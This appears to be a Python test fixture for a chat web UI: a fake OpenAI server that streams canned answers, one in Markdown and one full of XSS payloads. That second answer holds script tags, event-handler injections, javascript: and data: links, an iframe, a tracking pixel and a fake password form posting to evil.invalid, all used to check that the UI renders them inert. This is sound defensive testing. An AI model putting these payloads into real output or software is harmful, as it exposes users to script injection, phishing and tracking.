"""The fake OpenAI server of tests.fake_openai, plus canned answers for the browser tests.

The word stream of ``[fake tokens=N]`` cannot contain Markdown or HTML; the browser tests
need both (a Markdown answer to render, an answer with <script> to prove it renders inert).
A prompt with ``[canned NAME]`` streams ``CANNED[NAME]`` in word-sized pieces instead, at the
``rate`` of its ``[fake ...]`` directive if there is one, through the plain server's stream
writer (so with its chunk shapes, pacing, cap and usage). Everything else is unchanged.

Run it with ``python -m tests.browser.fake_llm --port N`` (conftest.py's
``BrowserFakeLLM`` does, the way tests.harness.FakeLLM starts the plain one).
"""

from __future__ import annotations

import re
from typing import Any

from tests.fake_openai import Behaviour, FakeOpenAI, main

CANNED = {
    # Each line is a way model output has been used to run script or leak data in a chat UI.
    "xss": (
        "Here is what you asked for.\n\n"
        '<script>window.__xss = "script"; alert("script")</script>\n\n'
        "<img src=\"x\" onerror=\"window.__xss = 'img-onerror'; alert('img')\">\n\n"
        "- [a javascript link](javascript:window.__xss='javascript-link')\n"
        "- <a href=\"javascript:window.__xss='raw-javascript-link'\">a raw javascript link</a>\n"
        "- <a href=\"JaVaScRiPt:window.__xss='mixed-case'\">a mixed-case link</a>\n"
        "- [a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n"
        "- ![a tracking pixel](https://tracker.invalid/pixel.png)\n\n"
        '<svg onload="window.__xss = \'svg\'"><circle r="5"/></svg>\n\n'
        "<iframe srcdoc=\"<script>parent.__xss = 'iframe'</script>\"></iframe>\n\n"
        '<div style="position:fixed;inset:0;background:red" '
        "onmouseover=\"window.__xss = 'overlay'\">an overlay</div>\n\n"
        '<form action="https://evil.invalid/"><input name="password">'
        "<button>Log in again</button></form>\n\n"
        "**This bold text is harmless and stays.**\n"
    ),
    "markdown": (
        "## Making a streaming UI resilient\n\n"
        "A stream can break at any moment, so the client should treat the **event log** as "
        "the source of truth and keep its place in it:\n\n"
        "1. Remember the last `seq` you applied.\n"
        "2. On reconnect, ask for everything *after* it.\n"
        "3. Drop anything you have already seen.\n\n"
        "```js\n"
        "const stream = await client.stream({ prompt });\n"
        "for await (const { text } of stream) render(text);\n"
        "```\n\n"
        "| transport | when |\n"
        "|---|---|\n"
        "| WebSocket | first choice |\n"
        "| SSE | when a proxy blocks WebSockets |\n\n"
        "> Reloading the page resumes the same answer from `sessionStorage`.\n\n"
        "See [the protocol](https://example.com/protocol) for the details.\n"
    ),
}
_CANNED = re.compile(r"\[canned (\w+)\]")


def pieces(text: str) -> list[str]:
    """Word-sized pieces, so that tags and links arrive split across deltas."""
    return re.findall(r"\s*\S{1,6}|\s+", text)


class CannedFakeOpenAI(FakeOpenAI):
    def answer(self, request: dict[str, Any], behaviour: Behaviour) -> list[str] | None:
        prompt = "\n".join(str(m.get("content", "")) for m in request.get("messages", []))
        match = _CANNED.search(prompt)
        return pieces(CANNED[match.group(1)]) if match else None


if __name__ == "__main__":
    main(CannedFakeOpenAI, __doc__ or "")
